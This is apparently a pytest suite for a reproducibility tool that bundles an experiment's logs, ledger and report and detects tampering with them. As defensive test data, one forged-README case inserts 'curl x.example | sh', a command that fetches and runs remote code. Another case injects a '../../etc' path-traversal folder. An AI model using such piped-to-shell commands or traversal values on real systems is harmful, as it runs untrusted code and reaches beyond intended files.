"""Bundles of a finished figure: complete, reproducible, without secrets, and every change is detected."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shutil
import sqlite3
import subprocess
import tempfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace as with_fields
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestrator import api
from orchestrator.errors import ReproError
from orchestrator.identity import user_name
from orchestrator.results.claims import JUDGING_RULES
from tests.examples import examples
from tests.stand_in_site import Site
from tests.unit.api.bundle_files import TOP, content, packed
from tests.unit.api.project import Project, problems

pytestmark = pytest.mark.slow


@pytest.fixture
def looking(finished: Site, monkeypatch: pytest.MonkeyPatch) -> Project:
    """The project whose figure 13 has come out."""
    return Project.at(finished, monkeypatch)


def bundled(project: Project, file: Path, **selection: Any) -> Path:
    (figure,) = api.outcomes("figure-13", session=project.session, **selection)
    return api.bundle(figure, file, session=project.session).file


@pytest.fixture(scope="module")
def made(finished: Site, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundle of figure 13."""
    with pytest.MonkeyPatch.context() as patch:
        return bundled(Project.at(finished, patch), tmp_path_factory.mktemp("bundle") / "figure-13.tar.zst")


@pytest.fixture(scope="module")
def files(made: Path) -> dict[str, bytes]:
    return content(made)


@pytest.fixture(autouse=True)
def reviewer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder and home of a reviewer, who has never submitted anything."""
    home = tmp_path / "empty"
    home.mkdir()
    monkeypatch.chdir(home)
    monkeypatch.setenv("REPRO_HOME", str(home))
    monkeypatch.delenv("REPRO_DATABASE", raising=False)
    return home


def differences(verified: api.Verified) -> list[str]:
    return [difference for check in verified.checks for difference in check.differences]


def log_of(files: Mapping[str, bytes], case: str = "pp2-tp2-gbs16") -> str:
    (path,) = [path for path in files if path.startswith(f"jobs/{case}-") and path.endswith("/log.txt")]
    return path


def test_a_bundle_verifies_with_no_other_file(reviewer: Path, made: Path) -> None:
    verified = api.verify_bundle(made)
    assert verified.holds and all(check.is_proven for check in verified.checks)
    assert [check.name for check in verified.checks] == ["files", "numbers", "results", "pages"]
    assert verified.checks[1].what.startswith("6 attempts read again: 48 iterations, ")
    assert list(reviewer.iterdir()) == []


def test_two_bundles_of_the_same_are_the_same_bytes(
    looking: Project, made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    monkeypatch.setattr("time.time", lambda: 2e9)
    again = bundled(looking, tmp_path / "again.tar.zst", scale="cpu", cluster="here")
    assert again.read_bytes() == made.read_bytes()


IMAGE_DIGEST = f"sha256:{64 * 'a'}"


def test_the_digest_of_an_image_is_in_the_bundle_and_in_the_export(looking: Project, tmp_path: Path) -> None:
    ledger = tmp_path / "copy.db"
    shutil.copy(looking.folder / "results.db", ledger)
    with contextlib.closing(sqlite3.connect(ledger)) as connection, connection:
        connection.execute("UPDATE jobs SET image = 'pretrain', image_digest = ?", (IMAGE_DIGEST,))
    session = with_fields(looking.session, database=str(ledger))
    (figure,) = api.outcomes("figure-13", session=session)
    file = api.bundle(figure, tmp_path / "with-digest.tar.zst", session=session).file
    files = content(file)
    (program,) = json.loads(files["environment.json"])["programs"]
    assert (program["image"], program["image_digest"]) == ("pretrain", IMAGE_DIGEST)
    assert [json.loads(line)["image_digest"] for line in files["ledger/jobs.jsonl"].splitlines()] == 6 * [IMAGE_DIGEST]
    exported = [row["image_digest"] for row in csv.DictReader(io.StringIO(files["results/cases.csv"].decode()))]
    assert exported == 6 * [IMAGE_DIGEST] and IMAGE_DIGEST in files["report.html"].decode()
    assert api.verify_bundle(file).holds


def test_the_checksums_are_such_as_coreutils_read(made: Path, tmp_path: Path) -> None:
    for path, text in content(made).items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(text)
    command = ["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"]
    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True)


def test_a_bundle_contains_every_attempt_and_result(looking: Project, files: dict[str, bytes]) -> None:
    runs = sorted((looking.folder / "runs").glob("*/pp*"))
    attempts = {path.rpartition("/")[0] for path in files if path.endswith("attempt-1/job.sh")}
    assert len(attempts) == len(runs) == 6
    for attempt in attempts:
        case = attempt.split("/")[1].rpartition("-")[0]
        (own,) = [folder for folder in runs if folder.name == case]
        for name in ("job.sh", "log.txt", "batch.txt", "start", "end"):
            assert files[f"{attempt}/{name}"] == (own / name).read_bytes(), name
    queue = [path for path in files if path.endswith(".queue.sh")]
    assert len(queue) == 1 and queue[0].startswith("runs/") and "/submissions/" in queue[0]
    assert b"cases:" in files["experiment/sc21/figure-13.yaml"] or b"matrix:" in files["experiment/sc21/figure-13.yaml"]
    assert b"title:" in files["experiment/sc21/paper.yaml"]
    assert json.loads(files[f"{queue[0].split('/submissions/')[0]}/profile.json"])["about"] == "a machine of the tests"
    assert json.loads(files["environment.json"])["runs"][0]["versions"]["repro"]
    assert files["report.html"].startswith(b"<!")
    readme = files["README.txt"].decode()
    assert f"repro bundle verify {TOP}.tar.zst" in readme and "What is missing" not in readme
    assert "repro submit sc21/figure-13 --scale cpu --cluster here" in readme


def test_numbers_can_be_read_without_repro(files: dict[str, bytes]) -> None:
    def rows(table: str) -> list[dict[str, Any]]:
        return [json.loads(line) for line in files[f"ledger/{table}.jsonl"].splitlines()]

    attempts = {row["id"]: row for row in rows("attempts")}
    jobs = {row["id"]: row for row in rows("jobs")}
    assert {row["experiment"] for row in rows("runs")} == {"sc21/figure-13"}
    assert len(rows("iterations")) == 48 and {row["verdict"] for row in attempts.values()} == {"verified"}
    found = {row["attempt_id"]: row["value"] for row in rows("metrics") if row["name"] == "iteration_ms"}
    points = {one: jobs[attempts[one]["job_id"]]["configuration"]["point"] for one in found}
    assert found == {one: 100 + 10 * point["gbs"] * point["pp"] for one, point in points.items()}
    table = {
        row["case"]: float(row["iteration_ms"])
        for row in csv.DictReader(files["results/cases.csv"].decode().splitlines())
    }
    assert table == {
        ",".join(f"{axis}={value}" for axis, value in points[one].items()): ms for one, ms in found.items()
    }


def test_rows_have_no_user_and_paths_are_relative_to_the_bundle(files: dict[str, bytes]) -> None:
    for path in (path for path in files if path.startswith("ledger/")):
        for line in files[path].splitlines():
            assert not {"user", "host", "pid", "token"} & json.loads(line).keys()
    for line in files["ledger/attempts.jsonl"].splitlines():
        row = json.loads(line)
        assert row["script"] in files and row["file"] in files and f"{row['folder']}/log.txt" in files
    assert f"{user_name()}@".encode() not in files["report.html"]


Change = Callable[[dict[str, bytes]], object]


def replace(path: str, old: bytes, new: bytes) -> Change:
    def change(files: dict[str, bytes]) -> None:
        (one,) = [each for each in files if re.fullmatch(path, each)]
        assert files[one].count(old) >= 1, files[one][:2000]
        files[one] = files[one].replace(old, new, 1)

    return change


def remove(path: str) -> Change:
    def change(files: dict[str, bytes]) -> None:
        (one,) = [each for each in files if re.fullmatch(path, each)]
        del files[one]

    return change


def without_line(path: str, having: bytes) -> Change:
    def change(files: dict[str, bytes]) -> None:
        lines = files[path].splitlines(keepends=True)
        files[path] = b"".join(line for line in lines if having not in line)
        assert len(files[path].splitlines()) < len(lines)

    return change


def attempt_with(**values: object) -> Change:
    """Change columns in the ledger row of an attempt."""

    def change(files: dict[str, bytes]) -> None:
        rows = [json.loads(line) for line in files["ledger/attempts.jsonl"].splitlines()]
        (row,) = [row for row in rows if row["folder"].startswith("jobs/pp2-tp2-gbs16-")]
        row |= values
        files["ledger/attempts.jsonl"] = b"".join(json.dumps(row).encode() + b"\n" for row in rows)

    return change


def both(*changes: Change) -> Change:
    def change(files: dict[str, bytes]) -> None:
        for each in changes:
            each(files)

    return change


def twice(files: dict[str, bytes]) -> None:
    """Repeat the last case in the tables of results."""
    results = json.loads(files["results/results.json"])
    results["cases"].append(results["cases"][-1])
    files["results/results.json"] = json.dumps(results).encode()
    files["results/cases.csv"] += files["results/cases.csv"].splitlines(keepends=True)[-1]


def as_second_attempt(files: dict[str, bytes]) -> None:
    """Give an attempt the number 2, as if the first one had been left out."""
    folder = log_of(files).removesuffix("/log.txt")
    second = folder.replace("attempt-1", "attempt-2")
    attempt_with(number=2)(files)
    files["ledger/attempts.jsonl"] = files["ledger/attempts.jsonl"].replace(folder.encode(), second.encode())
    for path in [path for path in files if path.startswith(f"{folder}/")]:
        files[path.replace(folder, second)] = files.pop(path)


LOG = r"jobs/pp2-tp2-gbs16-.*/log\.txt"
END = r"jobs/pp2-tp2-gbs16-.*/end"
MS = b"elapsed time per iteration (ms): 420.0"
SEEN: dict[str, tuple[Change, str]] = {
    "a digit in a log": (replace(LOG, MS, MS.replace(b"2", b"3")), rf"{LOG}: was changed"),
    "a digit in the ledger": (
        replace(r"ledger/metrics\.jsonl", b"420.0", b"430.0"),
        r"ledger/metrics\.jsonl: was changed",
    ),
    "a checksum": (
        lambda files: files.update(
            SHA256SUMS=re.sub(rb"^.{4}(.*README)", rb"0000\1", files["SHA256SUMS"], flags=re.MULTILINE)
        ),
        r"README\.txt: was changed",
    ),
    "a checksum less": (without_line("SHA256SUMS", b"README"), r"README\.txt: is not in SHA256SUMS"),
    "a line of the checksums": (
        replace("SHA256SUMS", b"  README", b" ?README"),
        "SHA256SUMS: invalid or repeated: 1 line",
    ),
    "a size": (replace("MANIFEST", b"\t", b"0\t"), "MANIFEST: was changed"),
    "a script": (
        replace(r"jobs/pp2-tp2-gbs16-.*/job\.sh", b"--train-iters", b"--train-iters-"),
        r"jobs/pp2-tp2-gbs16-.*/job\.sh: was changed",
    ),
    "a page": (replace(r"report\.html", b"</html>", b" </html>"), r"report\.html: was changed"),
    "a file less": (remove(LOG), rf"{LOG}: is missing"),
    "a file more": (
        lambda files: files.update({"jobs/more.txt": b"x"}),
        r"jobs/more\.txt: is not in SHA256SUMS",
    ),
    "a table less": (remove(r"ledger/metrics\.jsonl"), r"ledger/metrics\.jsonl: missing"),
    "no checksums": (remove("SHA256SUMS"), "SHA256SUMS or MANIFEST: cannot be read"),
}


def test_a_changed_file_is_named(files: dict[str, bytes], tmp_path: Path) -> None:
    for what, (change, said) in SEEN.items():
        found = differences(changed(files, tmp_path, change, with_sums=False))
        assert any(re.match(said, difference) for difference in found), (what, found)


@settings(max_examples=examples(12))
@given(data=st.data())
def test_no_bit_of_any_file_changes_unseen(made: Path, files: dict[str, bytes], data: st.DataObject) -> None:
    path = data.draw(st.sampled_from(sorted(path for path, text in files.items() if text)))
    place, bit = data.draw(st.integers(0, len(files[path]) - 1)), data.draw(st.integers(0, 7))
    text = bytearray(files[path])
    text[place] ^= 1 << bit
    with tempfile.TemporaryDirectory() as folder:
        file = packed({**files, path: bytes(text)}, Path(folder) / made.name)
        try:
            assert not api.verify_bundle(file).holds
        except ReproError as error:
            assert len(str(error).splitlines()) == 1


def changed(files: dict[str, bytes], folder: Path, change: Change, with_sums: bool = True) -> api.Verified:
    """Return the checks of the bundle after a change."""
    copy = dict(files)
    change(copy)
    assert copy != files
    return api.verify_bundle(packed(copy, folder / "changed.tar.zst", with_sums))


WHERE = r"jobs/pp2-tp2-gbs16-.*/attempt-1 \(pp=2,tp=2,gbs=16\)"
CASE = r"results/results\.json: case pp=2,tp=2,gbs=16"
DERIVED: dict[str, tuple[Change, list[str]]] = {
    "an iteration in a log": (
        replace(LOG, MS, MS.replace(b"2", b"3")),
        [rf"{WHERE}: iteration 1: elapsed_ms is 420\.0 in the ledger, 430\.0 from its log"],
    ),
    "every iteration in a log": (
        lambda files: files.update({log_of(files): files[log_of(files)].replace(MS, MS.replace(b"2", b"3"))}),
        [
            rf"{WHERE}: iteration_ms: value is 420\.0 in the ledger, 430\.0 from its log",
            rf"{WHERE}: iteration 5: elapsed_ms",
            rf"{WHERE}: 3 more like these",
            rf"{CASE}: iteration_ms is 420\.0, and 430\.0 by its logs",
        ],
    ),
    "the end of a log": (
        replace(LOG, b"iteration        8/", b"iteratiom        8/"),
        [
            rf"{WHERE}: failure is nothing in the ledger, incomplete from its log",
            rf"{WHERE}: iteration is 8 in the ledger, 7 from its log",
            rf"{CASE}: verdict is verified, and failed by its logs",
            rf"{CASE}: \d+ more like these",
        ],
    ),
    "a log less": (
        remove(LOG),
        [
            rf"{WHERE}: verdict is verified in the ledger, failed from its log",
            rf"{CASE}: verdict is verified, and failed",
        ],
    ),
    "the world size in a log": (
        replace(LOG, b"world size: 4", b"world size: 8"),
        [rf"{WHERE}: verdict is verified in the ledger, failed from its log"],
    ),
    "a metric": (
        replace(r"ledger/metrics\.jsonl", b"420.0", b"421.0"),
        [rf"{WHERE}: iteration_ms: value is 421\.0 in the ledger, 420\.0 from its log"],
    ),
    "a metric's unit": (
        replace(r"ledger/metrics\.jsonl", b'"unit": "ms"', b'"unit": "s"'),
        [r"iteration_ms: unit is s in the ledger, ms from its log"],
    ),
    "a metric less": (
        without_line("ledger/metrics.jsonl", b"420.0"),
        [rf"{WHERE}: iteration_ms is in its log and not in the ledger"],
    ),
    "an iteration less": (
        without_line("ledger/iterations.jsonl", b'"iteration": 7'),
        [rf"{WHERE}: iteration 7 is in its log and not in the ledger"],
    ),
    "a verdict": (
        replace(r"ledger/attempts\.jsonl", b'"verdict": "verified"', b'"verdict": "failed"'),
        [r"verdict is failed in the ledger, verified from its log"],
    ),
    "an execution mode": (
        replace(r"ledger/attempts\.jsonl", b'"execution": null', b'"execution": "graph"'),
        [r"execution is graph in the ledger, nothing from its log"],
    ),
    "a host wait in a log": (
        replace(LOG, MS, MS + b" | host wait per iteration (ms): 390.0"),
        [rf"{WHERE}: iteration 1: host_wait_ms is nothing in the ledger, 390\.0 from its log"],
    ),
    "a row's number": (
        replace(r"results/results\.json", b'"iteration_ms": 420.0', b'"iteration_ms": 42.0'),
        [rf"{CASE}: iteration_ms is 42\.0, and 420\.0 by its logs", r"results/cases\.csv: rows differ"],
    ),
    "a row less": (
        without_line("results/results.json", b'"case": "pp=2,tp=2,gbs=16"'),
        [r"other cases than its logs give"],
    ),
    "a claim's verdict": (
        replace(r"results/results\.json", b'"verdict": "holds"', b'"verdict": "fails"'),
        [r"results/results\.json: claim .*: verdict is fails, and holds by its logs"],
    ),
    "a cell": (
        replace(r"results/cases\.csv", b"420.0", b"42.0"),
        [r"results/cases\.csv: rows differ from results/results\.json"],
    ),
    "a claim": (
        replace(r"experiment/sc21/figure-13\.yaml", b"from_iteration: 1", b"from_iteration: 9"),
        [r"results/results\.json: claim .*: verdict is holds, and not judged by its logs"],
    ),
    "a number of samples": (
        replace(r"ledger/metrics\.jsonl", b'"count": ', b'"count": 1'),
        [r"count is 1\d in the ledger, \d from its log"],
    ),
    "one count of skipped iterations": (
        replace(r"ledger/iterations\.jsonl", b'"skipped": 0', b'"skipped": null'),
        [r"iteration 1: skipped is nothing in the ledger, 0 from its log"],
    ),
    "a row twice": (twice, [r"results/results\.json: other cases than its logs give"]),
    "the programs": (
        replace(r"bundle\.json", b'"programs": [', b'"programs": ["other",'),
        [r"bundle\.json: programs are other, pretrain, not pretrain$"],
    ),
    "which attempt an iteration is of": (
        replace(r"ledger/iterations\.jsonl", b'{"attempt_id": 6', b'{"attempt_id": 7'),
        [r"iteration 1 is in its log and not in the ledger", r"numbers of attempts that are missing or out of order"],
    ),
    "which attempt a number is of": (
        replace(r"ledger/metrics\.jsonl", b'{"attempt_id": 6', b'{"attempt_id": 7'),
        [r"numbers of attempts that are missing"],
    ),
}


@pytest.mark.parametrize("what", DERIVED)
def test_a_number_that_differs_from_the_logs_is_named_despite_valid_checksums(
    files: dict[str, bytes], tmp_path: Path, what: str
) -> None:
    change, expected = DERIVED[what]
    verified = changed(files, tmp_path, change)
    assert verified.checks[0].differences == ()
    found = differences(verified)
    for said in expected:
        assert any(re.search(said, difference) for difference in found), found
    assert str(tmp_path) not in "".join(found)


ENDS: dict[str, tuple[Change, str]] = {
    "an exit code in the end record": (
        replace(END, b"exit_code=0", b"exit_code=3"),
        rf"{WHERE}: state is COMPLETED in the ledger, and its end record has exit code 3",
    ),
    "an end record without an exit code": (
        replace(END, b"exit_code=", b"exit="),
        rf"{WHERE}: its end record cannot be parsed",
    ),
    "a job that was never submitted": (
        attempt_with(state="NEVER_SUBMITTED"),
        rf"{WHERE}: state is NEVER_SUBMITTED in the ledger, and its folder contains start, end, claimed, log\.txt",
    ),
    "a lost job": (attempt_with(state="LOST"), rf"{WHERE}: failure is nothing in the ledger, lost from its log"),
    "files of another attempt": (
        lambda files: files.update({re.sub("attempt-1", "attempt-2", log_of(files)): b"slower"}),
        r"jobs/pp2-tp2-gbs16-\w+/attempt-2: files of no attempt in ledger/attempts\.jsonl",
    ),
    "the folder of another attempt": (
        attempt_with(folder="jobs/pp1-tp4-gbs4-other/attempt-1"),
        r"ledger/attempts\.jsonl: 'jobs/pp1-tp4-gbs4-other/attempt-1' is not the folder of attempt 1",
    ),
    "the first attempt of a job": (
        as_second_attempt,
        r"ledger/attempts\.jsonl: attempt 1 of job \w+ is missing",
    ),
}


@pytest.mark.fault(
    section="Safety",
    fault="A bundle with a forged record, or a forged state, exit code or time of an attempt, and new checksums",
    promise="`bundle verify` names the attempt.",
)
@pytest.mark.parametrize("what", ENDS)
def test_an_end_that_differs_from_the_records_is_named(files: dict[str, bytes], tmp_path: Path, what: str) -> None:
    change, said = ENDS[what]
    found = differences(changed(files, tmp_path, change))
    assert any(re.match(said, difference) for difference in found), found


def with_rules(rules: int | None) -> Change:
    """Change the version of the rules, and the verdict of a claim."""

    def change(files: dict[str, bytes]) -> None:
        about = json.loads(files["bundle.json"])
        assert about.pop("judging_rules") == JUDGING_RULES
        about |= {} if rules is None else {"judging_rules": rules}
        files["bundle.json"] = json.dumps(about).encode()

    return both(change, DERIVED["a claim's verdict"][0])


def test_a_verdict_of_older_rules_is_no_difference_and_is_named(files: dict[str, bytes], tmp_path: Path) -> None:
    for rules in (None, 1):
        verified = changed(files, tmp_path, with_rules(rules))
        assert verified.holds and verified.proven == "numbers, report and README"
        (note, claim) = next(check for check in verified.checks if check.name == "results").notes
        assert note == (
            f"rules 1 judged the claims in the bundle, rules {JUDGING_RULES} judge them here: "
            "1 verdict changed with the rules"
        )
        assert re.fullmatch(r"claim \S+: fails -> holds", claim)
    source = both(with_rules(1), replace(r"results/results\.json", b'"source": "', b'"source": "not '))
    assert re.search(
        r"claim \S+: source is not .*, and .* by its logs", differences(changed(files, tmp_path, source))[0]
    )
    found = differences(changed(files, tmp_path, with_rules(JUDGING_RULES)))
    assert any("verdict is fails, and holds by its logs" in difference for difference in found)


FORGED: dict[str, Change] = {
    "a number in the report": replace(r"report\.html", b"420", b"240"),
    "a verdict in the report": replace(r"report\.html", b"All 6 cases are verified", b"All 9 cases are verified"),
    "a link in the report": replace(r"report\.html", b"</body>", b"<a href='https://x.example'>data</a></body>"),
    "a command in the README": replace(r"README\.txt", b"repro submit", b"curl x.example | sh; repro submit"),
    "a number in the README": replace(r"README\.txt", b"6 attempts", b"60 attempts"),
    "a byte that is not text in the README": replace(r"README\.txt", b"6 attempts", b"6 attempts\xff"),
}


@pytest.mark.fault(
    section="Safety",
    fault="A bundle with a forged report or README and new checksums",
    promise="`bundle verify` names the file.",
)
@pytest.mark.parametrize("what", FORGED)
def test_a_forged_report_or_readme_is_named_though_every_checksum_is_right(
    files: dict[str, bytes], tmp_path: Path, what: str
) -> None:
    page = "report.html" if "report" in what else "README.txt"
    found = differences(changed(files, tmp_path, FORGED[what]))
    assert f"{page}: differs from what the ledger in the bundle gives" in found


def test_pages_of_another_version_are_not_compared(files: dict[str, bytes], tmp_path: Path) -> None:
    def change(copy: dict[str, bytes]) -> None:
        FORGED["a number in the report"](copy)
        copy["bundle.json"] = re.sub(rb'"code_sha256": "[0-9a-f]+"', b'"code_sha256": "0"', copy["bundle.json"])
        copy["bundle.json"] = re.sub(rb'"repro": "[^"]+"', b'"repro": "1.2.3.4.5.6.7.8.9.10.11"', copy["bundle.json"])

    verified = changed(files, tmp_path, change)
    pages = verified.checks[-1]
    assert verified.holds and verified.proven == "numbers and claims" and verified.made_by == "1.2.3.4.5.6.7.8.9.10"
    assert pages.what == "report.html not compared: another version of repro made the bundle"
    assert pages.unchecked == "report.html and README.txt"
    assert changed(files, tmp_path, both(change, with_rules(1))).proven == "numbers"


def test_a_reader_without_matplotlib_or_with_another_one_compares_all_but_the_picture(
    files: dict[str, bytes], made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def none(*_: object, **__: object) -> str:
        raise ReproError("drawing needs matplotlib")

    forged = changed(files, tmp_path, replace(r"report\.html", b"<path d=", b"<path x='' d="))
    assert not forged.holds, "the same matplotlib draws the same picture"
    monkeypatch.setattr("orchestrator.results.report.picture", lambda *_, **__: '<svg id="plot-1">other</svg>')
    monkeypatch.setattr("orchestrator.results.bundle.verify.matplotlib_version", lambda: "0.1")
    other = api.verify_bundle(made)
    assert other.holds and "the picture is not compared, because matplotlib 3" in other.checks[-1].what
    monkeypatch.setattr("orchestrator.results.report.picture", none)
    monkeypatch.setattr("orchestrator.results.bundle.verify.matplotlib_version", lambda: None)
    without = api.verify_bundle(made)
    assert without.holds and "because matplotlib is not installed" in without.checks[-1].what
    assert without.checks[-1].unchecked == "the picture of report.html"
    second = replace(r"report\.html", b"</body>", b'<svg id="plot-2">9000 TFLOP/s</svg></body>')
    for change in (FORGED["a verdict in the report"], second):
        assert not changed(files, tmp_path, change).holds


def test_a_bundle_can_be_signed_and_checked_as_the_page_says(made: Path, tmp_path: Path) -> None:
    key, file = tmp_path / "ada", tmp_path / "signed.tar.zst"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    (tmp_path / "signers").write_text(f"ada@example.org {key.with_suffix('.pub').read_text()}")
    file.write_bytes(made.read_bytes())
    subprocess.run(["ssh-keygen", "-Y", "sign", "-f", key, "-n", "repro-bundle", file], check=True)
    words = ["ssh-keygen", "-Y", "verify", "-f", str(tmp_path / "signers"), "-I", "ada@example.org"]
    words += ["-n", "repro-bundle", "-s", f"{file}.sig"]
    for text, code in ((file.read_bytes(), 0), (file.read_bytes() + b"x", 255)):
        assert subprocess.run(words, input=text, check=False, capture_output=True).returncode == code


ODD: dict[str, tuple[Change, str]] = {
    "no row": (replace(r"ledger/jobs\.jsonl", b"{", b"["), r"ledger/jobs\.jsonl:1: no row of that table \("),
    "no text": (replace(r"ledger/jobs\.jsonl", b"{", b"\xff"), r"ledger/jobs\.jsonl:1: no row of that table \("),
    "no job": (without_line("ledger/jobs.jsonl", b"{"), r"ledger, experiment and results: do not belong together"),
    "no configuration": (
        replace(r"ledger/jobs\.jsonl", b'"configuration": {', b'"configuration": null, "more": {'),
        r"ledger/jobs\.jsonl:1: no row of that table \(",
    ),
    "a folder elsewhere": (
        lambda files: files.update(
            {
                "ledger/attempts.jsonl": re.sub(
                    rb'"folder": "[^"]*"', b'"folder": "../../etc"', files["ledger/attempts.jsonl"]
                )
            }
        ),
        r"ledger/attempts\.jsonl: '\.\./\.\./etc' is not the folder of attempt 1",
    ),
    "a folder beside the bundle": (
        replace(r"ledger/attempts\.jsonl", b'"folder": "jobs/', b'"folder": "../jobs/'),
        r"ledger/attempts\.jsonl: '\.\./jobs/.*' is not the folder of attempt 1",
    ),
    "no YAML": (
        replace(r"experiment/sc21/figure-13\.yaml", b"figure:", b"figure: ["),
        r"experiment/sc21/figure-13\.yaml:\d+:\d+ not YAML",
    ),
    "another scale": (replace(r"bundle\.json", b'"cpu"', b'"gpu"'), r"ledger/: no job of sc21/figure-13 at scale gpu"),
    "results of another kind": (
        lambda files: files.update({"results/results.json": b"[]"}),
        r"ledger, experiment and results: do not belong together",
    ),
}


def test_a_truncated_or_damaged_bundle_is_one_difference(files: dict[str, bytes], tmp_path: Path) -> None:
    for what, (change, said) in ODD.items():
        contents = changed(files, tmp_path, change).checks[-1]
        assert (contents.name, contents.what) == ("contents", "not read to their end"), what
        (difference,) = contents.differences
        assert re.match(said, difference) and "repro-bundle-" not in difference, (what, difference)


NONE: dict[str, tuple[Change, str]] = {
    "no word about itself": (remove(r"bundle\.json"), r"not a bundle: it has no readable bundle\.json"),
    "no JSON": (replace(r"bundle\.json", b"{", b"("), r"not a bundle: it has no readable bundle\.json"),
    "a newer format": (
        replace(r"bundle\.json", b'"format": 2', b'"format": 3'),
        "its format is .* of repro",
    ),
    "an experiment elsewhere": (replace(r"bundle\.json", b"sc21/figure-13", b"../x"), "not a bundle"),
}


def test_a_file_that_is_not_a_bundle_is_refused(files: dict[str, bytes], tmp_path: Path) -> None:
    for what, (change, said) in NONE.items():
        with pytest.raises(ReproError, match=said) as caught:
            changed(files, tmp_path, change)
        assert len(problems(caught)) == 1, what


def test_an_interrupted_bundle_leaves_no_file(
    looking: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*_: object) -> Iterator[bytes]:
        yield b"so far"
        raise KeyboardInterrupt

    monkeypatch.setattr("orchestrator.results.bundle.write.masked_blocks", interrupted)
    (tmp_path / "new").mkdir()
    with pytest.raises(KeyboardInterrupt):
        bundled(looking, tmp_path / "new" / "figure-13.tar.zst")
    assert list((tmp_path / "new").iterdir()) == []
